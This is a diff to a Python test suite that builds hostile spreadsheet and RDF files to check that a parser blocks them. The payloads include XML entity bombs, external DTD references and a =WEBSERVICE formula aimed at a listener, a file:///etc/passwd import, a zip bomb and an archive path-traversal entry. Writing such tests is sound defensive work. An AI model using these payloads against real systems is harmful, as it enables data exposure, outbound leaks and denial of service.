@@ -97,54 +97,58 @@ def rdf_bomb() -> bytes:
     ).encode()
 
 
-def hostile(address: str) -> dict[str, tuple[str, bytes]]:
-    """Give files that try to take memory, to read files or to reach an address."""
-    laughs = '<!DOCTYPE x [<!ENTITY a "ha">' + "".join(
-        f'<!ENTITY {chr(97 + n)}{n} "{"&a;" * 50}">' for n in range(1, 10)
-    )
-    content = f'<?xml version="1.0"?>{laughs}]><x>&b1;</x>'.encode()
-    external = f'<?xml version="1.0"?><!DOCTYPE x SYSTEM "{address}x.dtd" [<!ENTITY % p SYSTEM "{address}p">%p;]><x/>'
+def billion_laughs() -> bytes:
+    """Write XML that would unfold to far more than it is."""
+    entities = "".join(f'<!ENTITY {chr(97 + n)}{n} "{"&a;" * 50}">' for n in range(1, 10))
+    return f'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "ha">{entities}]><x>&b1;</x>'.encode()
+
+
+def dtd_of(address: str) -> bytes:
+    """Write XML that refers to a DTD elsewhere."""
+    doctype = f'<!DOCTYPE x SYSTEM "{address}x.dtd" [<!ENTITY % p SYSTEM "{address}p">%p;]>'
+    return f'<?xml version="1.0"?>{doctype}<x/>'.encode()
+
+
+def hostile_spreadsheets(address: str) -> dict[str, tuple[str, bytes]]:
+    """Give spreadsheets that try to take memory, or to reach an address."""
     link = (
         '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" '
-        f'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/externalLinkPath" '
+        'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/externalLinkPath" '
         f'Target="{address}book.xlsx" TargetMode="External"/></Relationships>'
-    )
-    context = {"@context": f"{address}context", "@id": f"{address}a", "label": "x"}
-    facts = f"<{address}a> <http://www.w3.org/2002/07/owl#imports> <{address}b> , <file:///etc/passwd> .\n"
-    base = f"@base <{address}> .\n<#a> <http://www.w3.org/2000/01/rdf-schema#seeAlso> <c> .\n"
+    ).encode()
+    far = b'<c r="XFD1048576" t="n"><v>1</v></c><c r="A1"'
+    xml = b"<?xml version='1.0' encoding='UTF-8'?>"
     return {
         "zip bomb": ("a.xlsx", archive({"[Content_Types].xml": b"", "xl/workbook.xml": b" " * 200_000_000})),
         "many parts": ("a.ods", archive({f"{n}.xml": b"" for n in range(2_000)})),
-        "laughs in ODS": (
-            "a.ods",
-            with_part(".ods", "content.xml", b"<?xml version='1.0' encoding='UTF-8'?>", content),
-        ),
-        "laughs in XLSX": ("a.xlsx", archive({"[Content_Types].xml": content})),
-        "laughs in RDF": ("a.rdf", rdf_bomb()),
-        "a DTD elsewhere": ("a.rdf", external.encode()),
-        "a DTD elsewhere in ODS": ("a.ods", archive({"META-INF/manifest.xml": external.encode(), "content.xml": b""})),
-        "a link to a book": (
-            "a.xlsx",
-            with_part(".xlsx", "xl/externalLinks/_rels/externalLink1.xml.rels", b"", link.encode()),
-        ),
+        "laughs in ODS": ("a.ods", with_part(".ods", "content.xml", xml, billion_laughs())),
+        "laughs in XLSX": ("a.xlsx", archive({"[Content_Types].xml": billion_laughs()})),
+        "a DTD elsewhere in ODS": ("a.ods", archive({"META-INF/manifest.xml": dtd_of(address), "content.xml": b""})),
+        "a link": ("a.xlsx", with_part(".xlsx", "xl/externalLinks/_rels/externalLink1.xml.rels", b"", link)),
         "a formula that asks": ("a.csv", evidence(name=f"=WEBSERVICE('{address}')")),
-        "a context elsewhere": ("a.jsonld", json.dumps(context).encode()),
-        "imports": ("a.ttl", facts.encode()),
-        "a base elsewhere": ("a.ttl", base.encode()),
-        "deep nesting": ("a.ttl", b"<a:a> <a:b> " + b"[ <a:b> " * 200_000),
         "a path in a part": ("a.xlsx", archive({"../../../tmp/consulaire-probe": b"x"})),
-        "a far cell": (
-            "a.xlsx",
-            with_part(
-                ".xlsx", "xl/worksheets/sheet1.xml", b'<c r="A1"', b'<c r="XFD1048576" t="n"><v>1</v></c><c r="A1"'
-            ),
-        ),
+        "a far cell": ("a.xlsx", with_part(".xlsx", "xl/worksheets/sheet1.xml", b'<c r="A1"', far)),
         "not what it says": ("a.ods", b"\x7fELF" + bytes(1_000)),
     }
 
 
+def hostile_rdf(address: str) -> dict[str, tuple[str, bytes]]:
+    """Give RDF that tries to take memory, to read files or to reach an address."""
+    context = {"@context": f"{address}context", "@id": f"{address}a", "label": "x"}
+    facts = f"<{address}a> <http://www.w3.org/2002/07/owl#imports> <{address}b> , <file:///etc/passwd> .\n"
+    base = f"@base <{address}> .\n<#a> <http://www.w3.org/2000/01/rdf-schema#seeAlso> <c> .\n"
+    return {
+        "laughs in RDF": ("a.rdf", rdf_bomb()),
+        "a DTD elsewhere": ("a.rdf", dtd_of(address)),
+        "a context elsewhere": ("a.jsonld", json.dumps(context).encode()),
+        "imports": ("a.ttl", facts.encode()),
+        "a base elsewhere": ("a.ttl", base.encode()),
+        "deep nesting": ("a.ttl", b"<a:a> <a:b> " + b"[ <a:b> " * 200_000),
+    }
+
+
 def test_hostile_files_reach_nothing_and_are_told(graph: bytes, gate: Gate, listener: Listener) -> None:
-    files = hostile(listener.address)
+    files = hostile_spreadsheets(listener.address) | hostile_rdf(listener.address)
     assert len(files) == 16
     outcomes = {}
     for name, file in files.items():
@@ -156,7 +160,7 @@ def test_hostile_files_reach_nothing_and_are_told(graph: bytes, gate: Gate, list
             outcomes[name] = type(error).__name__
     assert listener.contacts == 0
     harmless = {name for name, outcome in outcomes.items() if outcome == "judged"}
-    assert harmless <= {"a link to a book", "a formula that asks", "imports", "a base elsewhere"}, outcomes
+    assert harmless <= {"a link", "a formula that asks", "imports", "a base elsewhere"}, outcomes
     assert not {"CheckFault"} & set(outcomes.values()), outcomes
 
 
